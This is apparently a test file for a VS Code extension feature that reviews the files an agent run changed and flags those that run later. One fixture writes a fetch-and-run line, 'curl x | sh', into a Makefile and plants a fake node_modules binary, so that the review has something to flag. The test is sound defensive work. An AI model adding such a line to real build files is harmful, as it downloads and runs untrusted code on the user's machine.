// Each run's review (extension/checkpoints/run-review.ts) over a real checkpoint store and an in-memory
// workspace state: made at the run's end, nothing when nothing changed, kept over a reload, bounded.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type * as vscode from 'vscode';
import { RunReviews } from '../../../extension/checkpoints/run-review';
import { setup } from '../../support/checkpoint-workspace';

/** The workspace state as VS Code keeps it: JSON values by key. */
function memento(): vscode.Memento & { values: Map<string, unknown> } {
  const values = new Map<string, unknown>();
  return {
    values,
    keys: () => [...values.keys()],
    get: <T>(key: string, fallback?: T) => (values.has(key) ? (structuredClone(values.get(key)) as T) : fallback),
    update: (key: string, value: unknown) => {
      values.set(key, structuredClone(value));
      return Promise.resolve();
    },
  };
}

test('a run that changed files gets a review, kept with its marks; one that changed nothing gets none', async () => {
  const { ws, store } = await setup({ 'src/sum.js': 'a - b\n', Makefile: 'all:\n' });
  const state = memento();
  const reviews = new RunReviews(state);
  const start = await store.snapshot('runs/r1/steps/1', 'start');
  writeFileSync(join(ws, 'src/sum.js'), 'a + b\n');
  writeFileSync(join(ws, 'Makefile'), 'all:\n\tcurl x | sh\n');
  mkdirSync(join(ws, 'node_modules/.bin'), { recursive: true });
  writeFileSync(join(ws, 'node_modules/.bin/jest'), 'evil');
  const later = [
    { path: 'Makefile', change: 'changed' as const, diff: '+\tcurl x | sh' },
    { path: 'node_modules/.bin/jest', change: 'added' as const, diff: '+evil' },
  ];
  const made = await reviews.finish({ store, run: 'r1.lar.jsonl', runId: 'r1', start: start.commit, later });
  assert.ok(made);
  assert.deepEqual(
    made.review.files.map((f) => [f.path, f.change, f.runsLater ?? false, f.untracked ?? false]),
    [
      ['Makefile', 'modified', true, false],
      ['node_modules/.bin/jest', 'added', true, true],
      ['src/sum.js', 'modified', false, false],
    ],
  );
  assert.match(made.review.note ?? '', /^Not listed: files \.gitignore ignores, node_modules/);
  await reviews.update(made, [{ ...made.review.files[2]!, state: 'undone' }, ...made.review.files.slice(0, 2)]);
  // A reload: a new RunReviews over the same state.
  const again = new RunReviews(state);
  assert.deepEqual(again.messagesFor('r1.lar.jsonl')[0], {
    type: 'runChanges',
    review: {
      ...made.review,
      files: [{ ...made.review.files[2]!, state: 'undone' }, ...made.review.files.slice(0, 2)],
    },
  });
  assert.deepEqual(again.messagesFor('other.lar.jsonl'), []);

  const quiet = await store.snapshot('runs/r2/steps/1', 'start');
  assert.equal(
    await reviews.finish({ store, run: 'r2.lar.jsonl', runId: 'r2', start: quiet.commit, later: [] }),
    undefined,
  );
});

test('a workspace state that is not what the reviews wrote is ignored, and only the latest 30 are kept', async () => {
  const { ws, store } = await setup({ 'a.txt': '0' });
  const state = memento();
  await state.update('lean4Agentic.reviews', [{ review: { run: '../x.lar.jsonl', files: [] } }]);
  const reviews = new RunReviews(state);
  assert.equal(reviews.get('../x.lar.jsonl'), undefined);
  for (let i = 1; i <= 32; i++) {
    const start = await store.snapshot(`runs/r${i}/steps/1`, 'start');
    writeFileSync(join(ws, 'a.txt'), String(i));
    await reviews.finish({ store, run: `r${i}.lar.jsonl`, runId: `r${i}`, start: start.commit, later: [] });
  }
  assert.equal(reviews.get('r2.lar.jsonl'), undefined);
  assert.equal(reviews.get('r3.lar.jsonl')?.review.files[0]?.path, 'a.txt');
  assert.equal((state.values.get('lean4Agentic.reviews') as unknown[]).length, 30);
});
